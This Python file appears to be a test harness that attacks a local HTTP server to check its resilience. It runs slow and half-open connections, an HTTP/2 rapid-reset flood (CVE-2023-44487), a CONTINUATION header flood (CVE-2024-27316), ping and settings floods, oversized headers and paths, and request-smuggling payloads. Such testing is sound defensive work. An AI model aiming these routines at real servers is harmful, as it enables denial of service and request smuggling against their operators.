"""Connections that are opened and not used, used slowly, or used as no client would."""

import socket
import struct
import time
from concurrent.futures import ThreadPoolExecutor

import raw

HALF_OPEN = 300
HEAD, BODY = 75, 135  # seconds after which none may be open that waits for a head, for a body
STREAMS = 20_000


def odd(run):
    port, found = run.server.port, []
    began = time.time()
    waiting = half_open(port)
    sent = HALF_OPEN
    for attack in (resets, pings, settings, endless_headers, many_headers, long_lines, smuggled):
        attack(port, found)
        sent += 1
        if not run.server.alive():
            return sent, [*found, f"the process ended at {attack.__name__}"]
    for seconds, kinds in (HEAD, ["nothing", "half a head", "slow"]), (BODY, ["half a body"]):
        while time.time() < began + seconds:
            drip(waiting["slow"])
            time.sleep(1)
        for kind in kinds:
            left = sum(is_open(s) for s in waiting[kind])
            if left:
                found.append(f"{left} of {len(waiting[kind])} open after {seconds} s: {kind}")
            for s in waiting[kind]:
                s.close()
    return sent, found


def half_open(port):
    """Connections that wait for more: by what they had sent."""
    begun = {
        "nothing": (b"", 100),
        "half a head": (b"GET /api/traces HTTP/1.1\r\nHost: localhost", 100),
        "half a body": (f"POST /api/cypher HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{{".encode(), 50),
        "slow": (b"GET / HTTP/1.1\r\nX-Slow: ", 50),
    }
    waiting = {}
    for kind, (data, count) in begun.items():
        waiting[kind] = []
        for _ in range(count):
            try:
                s = socket.create_connection(("127.0.0.1", port), 5)
                s.sendall(data)
                waiting[kind].append(s)
            except OSError:
                pass  # refused: nothing that waits
    return waiting


def drip(sockets):
    for s in sockets:
        try:
            s.send(b"x")
        except OSError:
            pass


def is_open(s):
    s.setblocking(False)
    try:
        while True:
            if not s.recv(65536):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def frame(kind, flags, stream, data=b""):
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def http2(port):
    """A connection that speaks HTTP/2 from its first byte; None where the server does not."""
    s = socket.create_connection(("127.0.0.1", port), 5)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    first = s.recv(65536)
    if len(first) > 3 and first[3] == 4:
        return s
    s.close()
    return None


def header_block(port, path):
    def plain(prefix, text):
        return bytes([prefix, len(text)]) + text.encode()

    return b"\x82\x86" + plain(0x04, path) + plain(0x01, f"localhost:{port}")


def still_open(port, frames):
    """Sends them over one connection; whether the server then goes on with it, which it says by answering a ping or, at the end, by silence."""
    try:
        s = http2(port)
    except OSError:
        s = None
    if s is None:
        return False
    s.settimeout(10)
    got, mark = b"", b"are you?"
    try:
        for data in frames:
            s.sendall(data)
            s.setblocking(False)
            try:
                got = (got + s.recv(1 << 20))[-64:]
            except BlockingIOError:
                pass
            s.settimeout(10)
        s.sendall(frame(6, 0, 0, mark))
        while mark not in got:
            more = s.recv(1 << 20)
            if not more:
                return False
            got = got[-64:] + more
        return True
    except TimeoutError:
        return True
    except OSError:
        return False
    finally:
        s.close()


def resets(port, found):
    """Streams that are opened and reset at once (CVE-2023-44487), over ten connections at a time."""
    block = header_block(port, "/api/traces")

    def frames():
        for start in range(1, STREAMS, 200):
            yield b"".join(frame(1, 5, 2 * i + 1, block) + frame(3, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(start, start + 200))

    with ThreadPoolExecutor(10) as pool:
        left = sum(pool.map(lambda _: still_open(port, frames()), range(10)))
    if left:
        found.append(f"HTTP/2: {left} of 10 connections go on after {STREAMS} streams that were opened and reset")


def pings(port, found):
    """Answered or not: what others notice counts."""
    still_open(port, (frame(6, 0, 0, bytes(8)) * 500 for _ in range(100)))


def settings(port, found):
    still_open(port, (frame(4, 0, 0, struct.pack(">HI", 3, 100)) * 500 for _ in range(100)))


def endless_headers(port, found):
    """A header block that goes on and on (CVE-2024-27316)."""
    start = frame(1, 1, 1, header_block(port, "/"))
    more = frame(9, 0, 1, (b"\x00\x01a" + b"\x7f\x81\x01" + b"b" * 256) * 60)
    if still_open(port, (start if i == 0 else more * 10 for i in range(60))):
        found.append("HTTP/2: a header block of 9 MB is still read")


def many_headers(port, found):
    for name, headers in {"20,000 headers": [f"X-{i}: {i}" for i in range(20_000)], "a header of 1 MB": ["X-Long: " + "a" * 1_000_000]}.items():
        status, _ = raw.request(port, "GET", "/api/traces", [f"Host: localhost:{port}", *headers])
        if status < 400 and status:
            found.append(f"{name}: {status}")


def long_lines(port, found):
    status, _ = raw.request(port, "GET", "/api/traces?query=" + "a" * 1_000_000, [f"Host: localhost:{port}"])
    if status < 400 and status:
        found.append(f"a path of 1 MB: {status}")


def smuggled(port, found):
    """Lengths that contradict each other: one answer at most, and no second request read out of a body."""
    inner = f"GET /api/traces HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"
    host = f"POST /api/cypher HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Type: application/json\r\n"
    for name, head in {
        "two lengths": f"Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n",
        "a length and chunks": f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "a negative length": "Content-Length: -1\r\n\r\n",
    }.items():
        got = raw.exchange(port, (host + head + inner).encode(), timeout=3)
        if got.count(b'"items"'):
            found.append(f"{name}: the body is read as a request of its own")
